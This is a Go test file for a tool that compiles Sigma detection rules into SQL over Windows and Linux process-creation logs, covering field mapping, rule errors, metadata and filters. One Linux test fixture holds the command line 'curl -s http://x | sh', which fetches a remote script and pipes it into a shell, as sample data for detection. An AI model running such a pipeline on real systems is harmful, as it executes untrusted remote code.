package sigma

import (
	"errors"
	"slices"
	"strings"
	"testing"

	"huntsql/rules"
)

// Security 4688 answers to Sigma's process_creation names: NewProcessName is
// Image, hex ids are decimal, the mandatory label is the integrity level, the
// user is the target account unless empty, else the creator.
func Test4688Mapping(t *testing.T) {
	base := map[string]string{"NewProcessName": `C:\Windows\System32\whoami.exe`, "ParentProcessName": `C:\Windows\explorer.exe`,
		"NewProcessId": "0x1a2c", "ProcessId": "0xe74", "CommandLine": "whoami /all", "MandatoryLabel": "S-1-16-12288",
		"SubjectUserName": "alice", "SubjectDomainName": "CORP", "TargetUserName": "-", "TargetDomainName": "-"}
	with := func(kv ...string) map[string]string {
		m := map[string]string{}
		for k, v := range base {
			m[k] = v
		}
		for i := 0; i+1 < len(kv); i += 2 {
			m[kv[i]] = kv[i+1]
		}
		return m
	}
	runCases(t, []evalCase{
		{"Image and ParentImage", "  sel:\n    Image|endswith: '\\whoami.exe'\n    ParentImage|endswith: '\\explorer.exe'\n  condition: sel\n",
			[]ev{sec4688("y", base), sec4688("n", with("ParentProcessName", `C:\x\cmd.exe`))}, []string{"y"}},
		{"hex process ids", "  sel:\n    ProcessId: 6700\n    ParentProcessId: 3700\n  condition: sel\n",
			[]ev{sec4688("y", base), sec4688("n", with("NewProcessId", "0x1a2d"))}, []string{"y"}},
		{"mandatory label as integrity level", "  sel:\n    IntegrityLevel: high\n  condition: sel\n",
			[]ev{sec4688("y", base), sec4688("n", with("MandatoryLabel", "S-1-16-8192"))}, []string{"y"}},
		{"creator when the target is empty", "  sel:\n    User: 'CORP\\alice'\n  condition: sel\n",
			[]ev{sec4688("y", base), sec4688("n", with("TargetUserName", "bob", "TargetDomainName", "CORP"))}, []string{"y"}},
		{"target account when given", "  sel:\n    User: 'CORP\\bob'\n  condition: sel\n",
			[]ev{sec4688("n", base), sec4688("y", with("TargetUserName", "bob", "TargetDomainName", "CORP"))}, []string{"y"}},
		{"both sources in one rule", "  sel:\n    CommandLine|contains: 'whoami'\n  condition: sel\n",
			[]ev{sec4688("sec", base), sysmon1("sysmon", map[string]string{"CommandLine": "whoami"}),
				{id: "other-channel", data: map[string]string{"CommandLine": "whoami"}, cols: map[string]string{"winlog.channel": "'Application'", "event.code": "'1'"}}},
			[]string{"sec", "sysmon"}},
	})
}

// A rule reading a field 4688 lacks has no 4688 branch, says so, and still
// runs on Sysmon; one no source supplies cannot fire at all.
func TestCannotFire(t *testing.T) {
	c, err := compileOne(t, procRule("  sel:\n    - Image|endswith: '\\net.exe'\n    - OriginalFileName: 'net.exe'\n  condition: sel\n"), Options{})
	if err != nil {
		t.Fatal(err)
	}
	if len(c.Branches) != 1 || c.Branches[0].Source != "sysmon_1" {
		t.Errorf("branches: %+v", c.Branches)
	}
	if len(c.CannotFire) != 1 || c.CannotFire[0].String() != "cannot fire on security_4688: needs OriginalFileName" {
		t.Errorf("cannot fire: %v", c.CannotFire)
	}
	if !strings.Contains(c.Rule.Query, "-- cannot fire on security_4688: needs OriginalFileName") {
		t.Error("the query does not say which source it cannot fire on")
	}
	if got := c.EventCodes(); !slices.Equal(got, []string{"1"}) {
		t.Errorf("event codes %v", got)
	}
	_, err = compileOne(t, strings.Replace(procRule("  sel:\n    NoSuchField: x\n  condition: sel\n"), "product: windows", "product: linux", 1), Options{})
	var cf *CannotFireError
	if !errors.As(err, &cf) || err.Error() != "rule.yml:9: cannot fire on linux_process_start: needs NoSuchField" {
		t.Errorf("got %v", err)
	}
}

func TestLinuxProcessCreation(t *testing.T) {
	linux := func(id, exe, cmdline string) ev {
		return ev{id: id, cols: map[string]string{"host.os.type": "'linux'", "event.category": "['process']", "event.type": "['start']",
			"process.executable": quote(exe), "process.command_line": quote(cmdline), "process.pid": "42"}}
	}
	eng := testDB(t, []ev{linux("y", "/usr/bin/curl", "curl -s http://x | sh"), linux("n", "/usr/bin/wget", "wget x"),
		func() ev { e := linux("mac", "/usr/bin/curl", "curl x"); e.cols["host.os.type"] = "'macos'"; return e }()})
	rule := "title: t\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n  sel:\n    Image|endswith: '/curl'\n    ProcessId: 42\n  condition: sel\n"
	if got := matches(t, eng, rule); !slices.Equal(got, []string{"y"}) {
		t.Errorf("matched %v", got)
	}
}

func TestUserMappingFile(t *testing.T) {
	m, err := ParseMapping("mine.yml", []byte(`
sources:
  - name: security_4688
    logsource: {product: windows, category: process_creation}
    where: "\"winlog.channel\" = 'Security' AND \"event.code\" = '4688'"
    fields:
      OriginalFileName: {sql: "regexp_extract(\"winlog.event_data\"['NewProcessName'], '[^\\\\]+$')"}
  - name: zeek_dns
    logsource: {product: zeek, service: dns}
    where: "\"event.dataset\" = 'zeek.dns'"
    fields:
      query: {column: dns.question.name}
`))
	if err != nil {
		t.Fatal(err)
	}
	opts := Options{Mapping: DefaultMapping().Extend(m)}
	c, err := compileOne(t, procRule("  sel:\n    OriginalFileName: net.exe\n  condition: sel\n"), opts)
	if err != nil || len(c.Branches) != 2 || c.Branches[1].Source != "security_4688" {
		t.Fatalf("%v %+v", err, c)
	}
	if _, err := ParseMapping("bad.yml", []byte("sources:\n  - name: x\n    wher: y\n")); err == nil || err.Error() != `bad.yml:3: field wher not found` {
		t.Errorf("unknown key: %v", err)
	}
}

func TestErrorsNameFileAndLine(t *testing.T) {
	for _, tc := range []struct{ detection, want string }{
		{"  sel:\n    CommandLine|contians: x\n  condition: sel\n", `rule.yml:9: unknown modifier "contians"`},
		{"  sel:\n    CommandLine: x\n  condition: sel and not filter\n", `rule.yml:10: condition names "filter", which is not a search of this rule`},
		{"  sel:\n    CommandLine: x\n  condition: sel and\n", `rule.yml:10: condition ends early`},
		{"  sel:\n    CommandLine: x\n  condition: 1 of nothing*\n", `rule.yml:10: condition pattern "nothing*" matches no search`},
		{"  sel:\n    CommandLine|lt: abc\n  condition: sel\n", `rule.yml:9: lt needs a number, not "abc"`},
		{"  sel:\n    CommandLine|exists: maybe\n  condition: sel\n", `rule.yml:9: exists needs true or false`},
		{"  sel:\n    CommandLine|utf16le: x\n  condition: sel\n", `rule.yml:9: CommandLine: utf16 encodings must be followed by base64`},
		{"  sel:\n    CommandLine|cidr: 10.0.0.0/33\n  condition: sel\n", `rule.yml:9: cidr: netip.ParsePrefix`},
		{"  sel:\n    CommandLine|re: '(a'\n  condition: sel\n", `rule.yml:9: bad regular expression "(a"`},
		{"  sel:\n    CommandLine: []\n  condition: sel\n", `rule.yml:9: CommandLine has no value`},
	} {
		_, err := compileOne(t, procRule(tc.detection), Options{})
		if err == nil || !strings.HasPrefix(err.Error(), tc.want) {
			t.Errorf("%q: got %v, want %s…", tc.detection, err, tc.want)
		}
	}
	for _, tc := range []struct{ detection, want string }{
		{"  sel:\n    CommandLine|re: '(a)\\1'\n  condition: sel\n", `rule.yml:9: regular expression "(a)\\1" uses a feature RE2 lacks`},
		{"  sel:\n    CommandLine|re: '(?<!a)b'\n  condition: sel\n", `rule.yml:9: regular expression "(?<!a)b" uses a feature RE2 lacks`},
		{"  sel:\n    CommandLine: x\n  condition: sel | count() > 5\n", `rule.yml:10: condition "sel | count() > 5": aggregation expressions`},
	} {
		_, err := compileOne(t, procRule(tc.detection), Options{})
		var un *UnsupportedError
		if !errors.As(err, &un) || !strings.HasPrefix(err.Error(), tc.want) {
			t.Errorf("%q: got %v, want unsupported %s…", tc.detection, err, tc.want)
		}
	}
	if _, err := ParseFile("y.yml", []byte("title: x\ndetection:\n  sel: [\n")); err == nil || !strings.HasPrefix(err.Error(), "y.yml:3: did not find expected node content") {
		t.Errorf("YAML syntax error: %v", err)
	}
}

func TestMetadata(t *testing.T) {
	c, err := compileOne(t, `title: Meta
id: 0e1f2a3b-0000-4000-8000-000000000001
status: experimental
description: Why it matters.
author: Ann, Bob
references: [https://example.org/a]
falsepositives: [Admins]
level: informational
tags: [attack.execution, attack.t1059.001, attack.t1059.003, attack.defense-evasion, attack.t1027, cve.2021-1234]
logsource: {product: windows, category: process_creation}
detection:
  sel: {Image: x}
  condition: sel
`, Options{})
	if err != nil {
		t.Fatal(err)
	}
	r := c.Rule
	if r.ID != "0e1f2a3b-0000-4000-8000-000000000001" || r.Severity != "low" || r.Score() != 10 || !slices.Equal(r.Author, []string{"Ann", "Bob"}) ||
		r.Origin.Status != "experimental" || r.Origin.Level != "informational" || r.Origin.Language != "sigma" || r.Origin.FalsePositives[0] != "Admins" {
		t.Errorf("rule %+v origin %+v", r, r.Origin)
	}
	if got := r.Techniques(); !slices.Equal(got, []string{"T1027", "T1059", "T1059.001", "T1059.003"}) {
		t.Errorf("techniques %v", got)
	}
	if len(r.Threat) != 2 || r.Threat[0].Tactic.ID != "TA0002" || r.Threat[1].Tactic.Name != "Defense Evasion" {
		t.Errorf("threat %+v", r.Threat)
	}
	back, err := rules.Parse("x.toml", TOML(c))
	if err != nil {
		t.Fatal(err)
	}
	if back.Query != r.Query || back.Description != "Why it matters." || back.Origin.Status != "experimental" || !slices.Equal(back.Techniques(), r.Techniques()) {
		t.Errorf("TOML round trip: %+v", back)
	}
	for level, sev := range map[string]string{"low": "low", "medium": "medium", "high": "high", "critical": "critical"} {
		c, err := compileOne(t, strings.Replace(procRule("  sel: {Image: x}\n  condition: sel\n"), "level: high", "level: "+level, 1), Options{})
		if err != nil || c.Rule.Severity != sev {
			t.Errorf("level %s: %v %v", level, err, c)
		}
	}
}

// A Sigma filter narrows the rules it names, NULL-safely.
func TestFilters(t *testing.T) {
	docs, err := ParseFile("set.yml", []byte(procRule("  sel:\n    Image|endswith: '\\cmd.exe'\n  condition: sel\n")+`---
title: No cmd from the admin jump host
logsource: {product: windows, category: process_creation}
filter:
  rules: [00000000-0000-0000-0000-000000000001]
  jump:
    ParentImage|endswith: '\jump.exe'
  condition: not jump
`))
	if err != nil {
		t.Fatal(err)
	}
	cs, rep := CompileSet(docs, Options{})
	if len(cs) != 1 || rep.Count(OutcomeCompiled) != 2 {
		t.Fatalf("%d compiled, report %+v", len(cs), rep.Entries)
	}
	eng := testDB(t, []ev{
		sysmon1("kept", map[string]string{"Image": `C:\cmd.exe`, "ParentImage": `C:\explorer.exe`}),
		sysmon1("noparent", map[string]string{"Image": `C:\cmd.exe`}),
		sysmon1("filtered", map[string]string{"Image": `C:\cmd.exe`, "ParentImage": `C:\jump.exe`}),
	})
	if got := ids(t, eng, `SELECT "event.id" FROM events WHERE `+cs[0].Where()); !slices.Equal(got, []string{"kept", "noparent"}) {
		t.Errorf("matched %v", got)
	}
}
